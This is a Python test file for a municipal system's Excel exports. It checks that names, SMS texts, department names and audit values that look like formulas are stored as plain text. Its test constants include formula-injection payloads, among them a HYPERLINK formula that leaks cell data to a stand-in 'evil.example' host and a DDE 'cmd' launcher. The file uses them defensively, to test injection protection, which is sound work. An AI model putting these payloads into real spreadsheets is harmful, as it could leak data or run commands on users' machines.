"""Every Excel export keeps what people typed as text: a name, an SMS text, a saved-list entry, a department
or a case title that looks like a formula never becomes one, and shows exactly as typed; numbers and dates
stay numbers and dates. Only ``core.workbook`` may use openpyxl, so no export can skip that."""

from __future__ import annotations

import subprocess
import sys
from datetime import date, datetime
from io import BytesIO
from pathlib import Path

from openpyxl import load_workbook

from conversations.benchmark.stats import labels_for as report_labels
from core.audit import AuditFilter
from core.benchmark.reports import render_workbook
from core.benchmark.values import CaseEdit
from core.reference import ReferenceKind
from core.sms.labels import export_labels
from core.sms.values import ListEntry, RecipientSelection
from core.values import ReferenceDraft
from core.workbook import FORMULA_TRIGGERS, ExportBook
from tests.builders import grant, make_case, make_coordinator, make_executor, make_staff
from tests.core.test_audit_log import LABELS as AUDIT_LABELS

PYPROJECT = Path(__file__).resolve().parents[2] / "pyproject.toml"

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&C7,"확인")'
SUM = "=1+2교통행정과"
PLUS = "+82 10 9999 0000 연락"
MINUS = "-1+2 주민모임"
AT = "@SUM(A1:A9) 회의실"
TAB = "\t=cmd|' /c calc'!A1"
CR = "\r=2+5"


def text_as_read(text: str) -> str:
    # XML turns a bare carriage return into a line feed; what shows on screen is the same.
    return text.replace("\r", "\n")


def cells_of(body: bytes) -> list:
    book = load_workbook(BytesIO(body))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]


def assert_text_kept(body: bytes, *typed: str) -> list:
    """No cell is a formula; text that could start one is marked as text; each typed value shows as typed,
    as a cell of its own or inside a longer one."""
    cells = cells_of(body)
    for cell in cells:
        assert cell.data_type != "f", cell.coordinate
        if isinstance(cell.value, str) and cell.value.startswith(("\n", *FORMULA_TRIGGERS)):
            assert cell.data_type == "s" and cell.quotePrefix, (cell.coordinate, cell.value)
    shown = [cell.value for cell in cells if isinstance(cell.value, str)]
    for text in typed:
        assert any(text_as_read(text) in value for value in shown), text
    return cells


def test_text_that_looks_like_a_formula_is_written_as_text_and_numbers_stay_numbers():
    book = ExportBook()
    book.sheet("시트").append(
        [HYPERLINK, SUM, PLUS, MINUS, AT, TAB, CR, "-5", -5, 2.5, date(2026, 11, 25), "보통 글", "중간=1"]
    )
    cells = load_workbook(BytesIO(book.save())).active[1]
    typed = [HYPERLINK, SUM, PLUS, MINUS, AT, TAB, CR, "-5"]
    assert [c.value for c in cells[: len(typed)]] == [text_as_read(t) for t in typed]
    assert all(c.data_type == "s" and c.quotePrefix for c in cells[: len(typed)])
    assert [(c.value, c.data_type) for c in cells[8:10]] == [(-5, "n"), (2.5, "n")]
    assert cells[10].is_date and cells[10].value == datetime(2026, 11, 25)
    assert [(c.value, c.quotePrefix) for c in cells[11:]] == [("보통 글", False), ("중간=1", False)]


async def test_the_sms_results_workbook_keeps_the_text_names_and_saved_list_entries_as_typed(services, uow_factory):
    actor = await make_staff(services, saeol_id="sms01", name=SUM, roles=("sms.send", "admin"))
    seer = await grant(uow_factory, actor, "pii.view")  # the sheet with unmasked numbers is the one at risk
    entries = [
        ListEntry(HYPERLINK, "010-1111-2222", PLUS),
        ListEntry(MINUS, "010-3333-4444", AT),
        ListEntry(TAB.strip() + " 이웃", "010-5555-6666", "=A1"),
    ]
    saved = await services.sms_lists.save_entries(seer, "=연락망", entries)
    text = '=HYPERLINK("http://evil.example","확인") {이름}님'
    batch = await services.sms.send(seer, RecipientSelection("saved", list_id=saved.saved.id), text)

    body = await services.sms.export_results(seer, batch.id, export_labels("ko"))

    cells = assert_text_kept(body, text, SUM, HYPERLINK, PLUS, MINUS, AT, "=A1")
    assert "010-1111-2222" in [c.value for c in cells]
    assert [c.value for c in cells if c.data_type == "n"][:1] == [1]  # the row number is a number


async def test_the_statistics_workbook_keeps_a_department_renamed_like_a_formula_as_text(services, clock):
    admin = await make_staff(services, saeol_id="itadmin", department="전산정보과", roles=("admin",))
    coordinator = await make_coordinator(services)
    officer = await make_executor(services)
    await services.reference.edit(admin, ReferenceKind.DEPARTMENT, officer.department_id, ReferenceDraft(name=SUM))
    await make_case(services, coordinator, officer)
    tables = await services.statistics.tables(coordinator)

    body = render_workbook(tables, report_labels("ko", None), clock.local())

    cells = assert_text_kept(body, SUM)
    assert any(c.value == 1 and c.data_type == "n" for c in cells)  # the counts stay numbers


async def test_the_audit_export_keeps_names_titles_and_values_as_typed(services, uow_factory, clock):
    admin = await make_staff(services, saeol_id="itadmin", name=HYPERLINK, department="전산정보과", roles=("admin",))
    coordinator = await make_coordinator(services, name=AT)
    officer = await make_executor(services, name=MINUS)
    await services.reference.edit(admin, ReferenceKind.DEPARTMENT, officer.department_id, ReferenceDraft(name=SUM))
    case = await make_case(services, coordinator, officer)
    await services.cases.edit(coordinator, case.id, case.version, CaseEdit(title=PLUS))
    async with uow_factory(write=True) as uow:
        await uow.audit.record(
            at=clock.now(), actor_staff_id=admin.id, action="pii.view", details={"value": TAB, "n": -5}
        )
        await uow.commit()

    body = await services.audit_log.export(admin, AuditFilter(), AUDIT_LABELS)

    assert_text_kept(body, HYPERLINK, AT, SUM, PLUS, TAB, "n: -5")


def test_only_the_workbook_writer_uses_openpyxl():
    # In a process of its own: import-linter configures logging in a way that disables every logger already
    # made, which silenced the log assertions of the tests that happened to run after this one.
    linter = Path(sys.executable).with_name("lint-imports")
    done = subprocess.run(
        [str(linter), str(PYPROJECT), "--contract", "workbook-writer", "--no-cache"],
        capture_output=True,
        text=True,
    )
    assert done.returncode == 0, done.stdout + done.stderr
